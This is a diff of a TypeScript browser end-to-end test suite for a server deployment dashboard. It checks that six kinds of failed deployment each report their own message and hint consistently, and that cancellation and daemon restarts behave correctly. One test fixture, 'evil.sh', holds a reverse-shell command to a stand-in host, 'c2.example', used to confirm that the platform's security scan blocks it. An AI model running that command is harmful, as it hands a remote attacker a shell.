@@ -5,7 +5,7 @@ import { join } from 'node:path'
 import type { Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { whyNoBrowser } from '../e2e/browser.ts'
-import { buildServer, deployBash, readStatus, writeTree } from '../e2e/servers.ts'
+import { buildServer, deploy, deployBash, readStatus, writeTree } from '../e2e/servers.ts'
 import { settle, startDashboard, type Dashboard } from './dashboard.ts'
 
 /** A deployment ends; on a busy machine not at once. */
@@ -45,6 +45,90 @@ async function drop(page: Page, name: string, bytes: Buffer): Promise<void> {
   for (const type of ['dragenter', 'dragover', 'drop']) {
     await page.dispatchEvent('body', type, { dataTransfer: transfer })
   }
+}
+
+const MISSING = 'import httpx\n'
+const CLASH = `const { createServer } = require('node:http')
+createServer().listen(8080, () => createServer().listen(8080))
+`
+const GREEDY = 'x = [b"x" * 1048576 for _ in range(4096)]\n'
+
+/** Each with the code of its error and what only its sentence says. */
+const BROKEN: Readonly<
+  Record<
+    string,
+    readonly [files: Readonly<Record<string, string>>, config: object, code: string, sentence: RegExp]
+  >
+> = {
+  'missing-dependency': [
+    { 'server.py': MISSING },
+    { command: ['python3', 'server.py'] },
+    'start_failed',
+    /httpx/,
+  ],
+  'bad-command': [{ a: '' }, { command: ['nosuchprogram'] }, 'runtime_not_allowed', /nosuchprogram/],
+  'port-clash': [
+    { 'server.cjs': CLASH },
+    { command: ['node', 'server.cjs'], transport: 'http', port: 8080 },
+    'start_failed',
+    /the port that it wants is taken/,
+  ],
+  'out-of-memory': [
+    { 'server.py': GREEDY },
+    { command: ['python3', 'server.py'], resource_limits: { memory_mb: 64 } },
+    'start_failed',
+    /memory/,
+  ],
+  timeout: [
+    { 'server.sh': 'sleep 600\n' },
+    { command: ['bash', 'server.sh'], start_timeout: 2 },
+    'start_failed',
+    /2 s/,
+  ],
+  'scan-block': [
+    { 'server.sh': buildServer(), 'evil.sh': 'bash -i >& /dev/tcp/c2.example/4444 0>&1\n' },
+    { command: ['bash', 'server.sh'] },
+    'scan_blocked',
+    /scan/,
+  ],
+}
+
+type Failure = {
+  readonly code: string
+  readonly message: string
+  readonly hint: string
+  readonly details: { readonly operation_id: string }
+}
+
+/** By the command line; its one line on stderr is what it says of the end. */
+async function failToDeploy([way, [files, config, code, sentence]]: [string, (typeof BROKEN)[string]]) {
+  const tree = writeTree(dashboard.platform, {
+    ...files,
+    'server_config.json': JSON.stringify({ name: way, auto_restart: false, ...config }),
+  })
+  const { document, stderr } = await deploy(dashboard.platform, tree)
+  const told = JSON.parse(stderr.trim().split('\n').at(-1) ?? '') as { readonly error: Failure }
+  // Its script and its people read the same: the sentence alone, and the sentence after the stage.
+  expect(told.error.message.replace(/^\w+: /, '')).toBe(document.error?.message)
+  return { way, code, sentence, error: { ...told.error, message: document.error?.message ?? '' } }
+}
+
+/** A deployment whose server never answers, up to where that shows. */
+async function beginSlow(page: Page): Promise<void> {
+  const archive = await pack({
+    'server.sh': 'sleep 600\n',
+    'server_config.json': JSON.stringify({
+      name: 'slow',
+      command: ['bash', 'server.sh'],
+      start_timeout: 120,
+    }),
+  })
+  await page.goto(`${dashboard.url}/deploy`)
+  await settle(page)
+  await choose(page, 'slow.zip', archive)
+  await page.getByRole('button', { name: 'Deploy', exact: true }).click()
+  const start = page.getByRole('listitem').filter({ hasText: 'Start' })
+  await start.getByText('runs').waitFor({ timeout: ENDED_MS })
 }
 
 describe.skipIf(whyNoBrowser !== null)(`deploying from the browser${whyNoBrowser ?? ''}`, () => {
@@ -103,61 +187,59 @@ describe.skipIf(whyNoBrowser !== null)(`deploying from the browser${whyNoBrowser
     await page.context().close()
   })
 
-  it.each([
-    [
-      'a missing command',
-      { 'server_config.json': JSON.stringify({ name: 'no-command', command: ['nosuchprogram'] }), a: '' },
-      /nosuchprogram/,
-    ],
-    [
-      'a scan that blocks',
-      { 'server.sh': buildServer(), 'evil.sh': 'bash -i >& /dev/tcp/c2.example/4444 0>&1\n' },
-      /It was refused/,
-    ],
-  ])('%s has its own sentence and hint, the same as on the command line', async (_, files, sentence) => {
-    const archive = await pack(files)
-    const page = await dashboard.open('/deploy')
-    await settle(page)
-    await choose(page, 'broken-one.zip', archive)
-    await page.getByRole('button', { name: 'Deploy', exact: true }).click()
-    const alert = page.getByRole('alert')
-    await alert.getByText(sentence).first().waitFor({ timeout: ENDED_MS })
-    const shown = await alert.innerText()
-    const id = new URL(page.url()).pathname.split('/').at(-1)
-    const operation = await page.evaluate(
-      async (path) => (await (await fetch(path)).json()) as { error: { message: string; hint: string } },
-      `/api/v1/operations/${id}`,
+  it('U-10: each of six ways to fail has its own sentence and hint, the same in page, CLI and API', async () => {
+    const failures = await Promise.all(Object.entries(BROKEN).map(failToDeploy))
+    const page = await dashboard.open('/servers')
+    expect(failures.map(({ way, error }) => [way, error.code, error.message])).toEqual(
+      failures.map(({ way, code, sentence }) => [way, code, expect.stringMatching(sentence)]),
     )
-    expect(shown).toContain(operation.error.message)
-    expect(shown).toContain(operation.error.hint)
+    for (const { error } of failures) {
+      const id = error.details.operation_id
+      await page.goto(`${dashboard.url}/deploy/${id}`)
+      const shown = await page.getByRole('alert').innerText()
+      expect(shown).toContain(error.message)
+      expect(shown).toContain(error.hint)
+      const operation = await page.evaluate(
+        async (path) => (await (await fetch(path)).json()) as { error: { message: string; hint: string } },
+        `/api/v1/operations/${id}`,
+      )
+      expect(operation.error).toMatchObject({ message: error.message, hint: error.hint })
+    }
+    expect(new Set(failures.map(({ error }) => error.message)).size).toBe(failures.length)
+    expect(new Set(failures.map(({ error }) => error.hint)).size).toBe(failures.length)
     await page.getByRole('link', { name: 'Try again' }).click()
     await page.waitForURL(/\/deploy$/)
     await page.context().close()
   })
 
-  it('a deployment that somebody cancels ends, and nothing of it is left', async () => {
-    const archive = await pack({
-      'server.sh': 'sleep 600\n',
-      'server_config.json': JSON.stringify({
-        name: 'slow',
-        command: ['bash', 'server.sh'],
-        start_timeout: 120,
-      }),
-    })
-    const page = await dashboard.open('/deploy')
-    await settle(page)
-    await choose(page, 'slow.zip', archive)
-    await page.getByRole('button', { name: 'Deploy', exact: true }).click()
-    await page
-      .getByRole('listitem')
-      .filter({ hasText: 'Start' })
-      .getByText('runs')
-      .waitFor({ timeout: ENDED_MS })
-    await page.getByRole('button', { name: 'Cancel the deployment' }).click()
+  it('U-11: a stage over its limit is marked stuck with Cancel, which ends it and leaves nothing', async () => {
+    const page = await dashboard.open('/login')
+    // Only the browser's clock runs ahead: the stage itself goes on as long as any.
+    await page.clock.install()
+    await beginSlow(page)
+    expect(await page.getByText(/is stuck/).count()).toBe(0)
+    await page.clock.fastForward('10:00')
+    const mark = page.getByRole('alert').filter({ hasText: 'Start is stuck' })
+    expect(await mark.innerText()).toMatch(/should have ended after (1|4) m 15 s\. Begun by you/)
+    await mark.getByRole('button', { name: 'Cancel the deployment' }).click()
     await page.getByRole('alert').getByText('The deployment was cancelled.').waitFor({ timeout: ENDED_MS })
     expect(await page.getByText('runs', { exact: true }).count()).toBe(0)
     await page.reload()
     await page.getByRole('alert').getByText('The deployment was cancelled.').waitFor()
+    await page.context().close()
+  })
+
+  it('U-11: over a restart of the daemon the page says so, and the operation has ended', async () => {
+    const page = await dashboard.open('/login')
+    await beginSlow(page)
+    await dashboard.platform.kill()
+    await page.getByText('The platform restarts.').waitFor()
+    await dashboard.platform.start()
+    await page.getByRole('alert').getByText('The platform ended while this deployment was going on').waitFor()
+    expect(await page.getByText('The platform restarts.').count()).toBe(0)
+    expect(await page.getByText('runs', { exact: true }).count()).toBe(0)
+    await page.getByRole('listitem').filter({ hasText: 'Verify' }).getByText('not reached').waitFor()
+    await page.getByRole('link', { name: 'Try again' }).waitFor()
     await page.context().close()
   })
 
